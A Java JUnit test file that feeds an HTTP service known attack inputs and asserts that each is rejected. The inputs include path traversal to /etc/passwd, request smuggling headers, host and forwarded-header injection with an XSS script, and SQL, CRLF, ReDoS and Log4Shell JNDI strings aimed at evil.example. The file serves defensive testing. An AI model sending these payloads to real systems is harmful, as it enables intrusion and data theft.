package com.voltageems.hissrv.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.voltageems.hissrv.http.ApiFixture.Answer;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What is tried against every service that listens. Tokens, foreign pages and names that point
 * here: {@link AccessTest}, {@link LoopbackOnlyTest}; slowness: {@link SlowClientsTest}.
 */
class AttackListTest {
  @TempDir Path folder;
  private ApiFixture api;

  @BeforeEach
  void open() {
    api = new ApiFixture(folder);
    api.store("telemetry", Map.of("channel", "1001"), 1, 1.0);
  }

  @AfterEach
  void close() {
    api.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/ui/../hissrv.yml",
        "/ui/..%2fhissrv.yml",
        "/ui/%2e%2e/hissrv.yml",
        "/ui/%2e%2e%2fhissrv.yml",
        "/ui/..%5chissrv.yml",
        "/ui/..%c0%afhissrv.yml",
        "/ui/lang/%2e%2e%2f%2e%2e%2fopenapi.yaml",
        "/ui//etc/passwd",
        "/ui/;/../../etc/passwd",
        "/ui/main.js%00.css",
        "/quarantine/../../etc/passwd",
        "/quarantine/%2e%2e%2fconfig",
        "/quarantine/1%2f..%2f..%2fetc",
        "/mappings/..%2fconfig",
        "//etc/passwd",
        "/../../etc/passwd",
      })
  void noPathLeadsToAFile(String path) {
    Answer answer =
        api.raw("GET " + path + " HTTP/1.1", "Host: localhost", "Connection: close", "", "");

    assertThat(answer.status()).isBetween(400, 499);
    assertThat(answer.body()).doesNotContain("root:").doesNotContain("canary");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/validate", "/config/validate", "/sync"})
  void aCompressedBodyIsNotUnpacked(String path) {
    Answer answer =
        api.raw(
            "POST " + path + " HTTP/1.1",
            "Host: localhost",
            "Content-Encoding: gzip",
            "Content-Length: 4",
            "Connection: close",
            "",
            "abcd");

    assertThat(answer.status()).isEqualTo(415);
    assertThat(answer.problem()).isEqualTo("encoded-body");
  }

  @Test
  void twoLengthsAreNoRequest() {
    Answer answer =
        api.raw(
            "POST /sync HTTP/1.1",
            "Host: localhost",
            "Content-Length: 0",
            "Content-Length: 44",
            "",
            "GET /config HTTP/1.1",
            "Host: localhost",
            "",
            "");

    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.body()).doesNotContain("HTTP/1.1");
  }

  @ParameterizedTest
  @CsvSource({
    "Transfer-Encoding: chunked,Content-Length: 4",
    "Transfer-Encoding: gzip,X: y",
    "'Transfer-Encoding: chunked, identity',X: y",
    "Transfer-Encoding : chunked,X: y",
    "Content-Length: +4,X: y",
    "Content-Length: 4x,X: y",
    "X: y,' folded: z'",
  })
  void whatTwoReadersWouldReadTwoWaysIsNoRequest(String one, String other) {
    Answer answer = api.raw("POST /sync HTTP/1.1", "Host: localhost", one, other, "", "0", "", "");

    assertThat(answer.status()).isBetween(400, 501).isNotEqualTo(500);
    assertThat(answer.body()).doesNotContain("HTTP/1.1");
  }

  @Test
  void twoHostsAreNoRequest() {
    Answer answer =
        api.raw(
            "GET /health HTTP/1.1",
            "Host: localhost",
            "Host: evil.example",
            "Connection: close",
            "",
            "");

    assertThat(answer.status()).isEqualTo(400);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/", "/docs", "/query?measurement=telemetry", "/nowhere", "/docs/"})
  void aPrefixThatSomebodyClaimsIsNowhereInTheAnswer(String path) {
    Answer answer =
        api.send(
            "GET",
            path,
            "Accept",
            "text/html",
            "X-Forwarded-Prefix",
            "/\"><script>alert(1)</script>",
            "X-Forwarded-Host",
            "evil.example",
            "X-Original-URL",
            "/evil-path",
            "X-Rewrite-URL",
            "/evil-path");

    assertThat(answer.body()).doesNotContain("alert(1)").doesNotContain("evil");
    assertThat(answer.headers().toString()).doesNotContain("alert(1)").doesNotContain("evil");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' OR 1=1 --",
        "\"; DROP MEASUREMENT telemetry; --",
        "x\r\nSet-Cookie: a=b",
        "${jndi:ldap://evil.example}",
        "~(a+)+$",
        "tag,evil=1",
        "\u0000",
        "<script>alert(1)</script>",
      })
  void noParameterIsMoreThanText(String evil) {
    String text = URLEncoder.encode(evil, StandardCharsets.UTF_8);
    for (String path : new String[] {"query", "latest", "statistics"}) {
      for (String name :
          new String[] {
            "redis_key",
            "point_id",
            "interval",
            "start_time",
            "end_time",
            "page",
            "page_size",
            "aggregation"
          }) {
        String others =
            (name.equals("redis_key") ? "" : "&redis_key=comsrv:1001:m")
                + (name.equals("point_id") ? "" : "&point_id=1");
        Answer answer = api.get("/hisApi/data/" + path + "?" + name + "=" + text + others);

        assertThat(answer.status()).as(path + " " + name).isIn(400, 404);
        assertThat(answer.header("content-type")).startsWith("application/problem+json");
        assertThat(answer.headers()).doesNotContainKey("set-cookie");
      }
    }
    assertThat(api.get("/query?measurement=telemetry").status()).isEqualTo(200);
  }
}
